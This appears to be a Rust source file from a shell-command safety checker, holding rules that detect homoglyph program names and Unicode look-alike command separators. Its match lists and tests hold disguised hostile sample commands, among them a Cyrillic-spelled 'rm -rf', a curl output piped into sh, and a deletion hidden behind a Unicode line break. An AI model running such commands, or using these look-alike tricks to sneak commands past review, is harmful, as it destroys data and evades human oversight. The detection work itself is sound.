//! Letters and signs that only look like those of a command.

use crate::detect::inner_decision;
use crate::look::Scope;
use crate::platform::Platform;
use crate::rule::{Hit, Key, Rule, Severity, Test};
use crate::unwrap::is_program;
use crate::verdict::Decision;

/// Letters of other alphabets, and the Latin ones they look like.
#[rustfmt::skip]
const LETTERS: &[(char, char)] = &[
    ('α', 'a'), ('γ', 'y'), ('ι', 'i'), ('κ', 'k'), ('ν', 'v'), ('ο', 'o'), ('ρ', 'p'), ('τ', 't'), ('υ', 'u'),
    ('χ', 'x'), ('а', 'a'), ('в', 'b'), ('г', 'r'), ('е', 'e'), ('и', 'u'), ('к', 'k'), ('м', 'm'), ('н', 'h'),
    ('о', 'o'), ('п', 'n'), ('р', 'p'), ('с', 'c'), ('т', 't'), ('у', 'y'), ('х', 'x'), ('ѕ', 's'), ('і', 'i'),
    ('ј', 'j'), ('һ', 'h'), ('ԁ', 'd'), ('ԛ', 'q'), ('ԝ', 'w'), ('ո', 'n'), ('ս', 'u'), ('օ', 'o'),
];

/// The Latin letter that a letter looks like.
fn latin(letter: char) -> Option<char> {
    let at = LETTERS.binary_search_by_key(&letter, |(other, _)| *other);
    at.ok()
        .and_then(|at| LETTERS.get(at))
        .map(|(_, latin)| *latin)
}

pub(super) const NAME: Rule = Rule {
    id: "shell.lookalike-name",
    class: "obfus-unicode",
    severity: Severity::High,
    keys: &[Key::ours("program name with letters of two alphabets")],
    reason: "The program's name has letters that only look Latin, so it is not the program it seems.",
    alternative: Some("Write the program's name in one alphabet."),
    test: Test::Any(|look| {
        if look.name.is_ascii() {
            return None;
        }
        let folded: String = look.name.chars().map(|c| latin(c).unwrap_or(c)).collect();
        let mixed = look.name.chars().any(|c| c.is_ascii_alphabetic());
        let known = is_program(&folded, Platform::Posix);
        (folded.is_ascii() && (mixed || known)).then(|| look.hit().resolved(folded))
    }),
    matches: &["гm -rf lib", "ѕh -c ls", "сurl x.example.net"],
    near_misses: &["起動.sh", "rm -rf lib"],
    safe: &["./запуск.sh", "echo гm", "ls файл.txt"],
    ..Rule::ASK
};

/// Signs that look like those that part commands, and line breaks that no shell knows.
const SEPARATORS: &[(char, &str)] = &[
    ('；', ";"),
    ('｜', "|"),
    ('＆', "&"),
    ('\u{37e}', ";"),
    ('\u{2028}', "\n"),
    ('\u{2029}', "\n"),
];

pub(super) const SEPARATOR: Rule = Rule {
    id: "shell.lookalike-separator",
    class: "obfus-unicode",
    severity: Severity::Medium,
    keys: &[Key::ours("sign that only looks like a separator")],
    reason: "A sign looks like one that parts commands, and what stands behind it would be asked.",
    alternative: Some("Write the separator in ASCII, or quote the text."),
    test: Test::Whole(separator),
    matches: &["echo hi ；rm -rf lib", "curl x.example.net ｜ sh"],
    near_misses: &["echo 'hi；rm -rf lib'", "echo hi；ls"],
    safe: &[
        "git commit -m 'fix；then rm -rf lib'",
        "echo 你好；世界",
        "ls # ；rm -rf lib",
        "cat <<'E'\na；rm -rf lib\nE",
    ],
    ..Rule::ASK
};

fn separator(scope: &Scope<'_>) -> Option<Hit> {
    let text = scope.analysis.original;
    if text.is_ascii() {
        return None;
    }
    let looks = |c: char| SEPARATORS.iter().find(|(sign, _)| *sign == c);
    if scope.inner || !text.contains(|c| looks(c).is_some()) {
        return None;
    }
    let mut read = String::with_capacity(text.len());
    for c in text.chars() {
        match looks(c) {
            Some((_, sign)) => read.push_str(sign),
            None => read.push(c),
        }
    }
    let asked = inner_decision(&read, *scope, Platform::Posix) != Decision::Allow;
    // What is asked anyway needs no other reading.
    (asked && inner_decision(text, *scope, Platform::Posix) == Decision::Allow).then(Hit::default)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_line_break_that_no_shell_knows_is_asked() {
        let env = crate::AnalysisEnv::new("/home/sam");
        let verdict = crate::assess("ls\u{2028}rm -rf lib", &env, Platform::Posix);
        assert_eq!(verdict.rule, Some(SEPARATOR.id));
    }

    #[test]
    fn the_table_is_in_order() {
        assert!(LETTERS.is_sorted_by_key(|(letter, _)| *letter));
    }
}
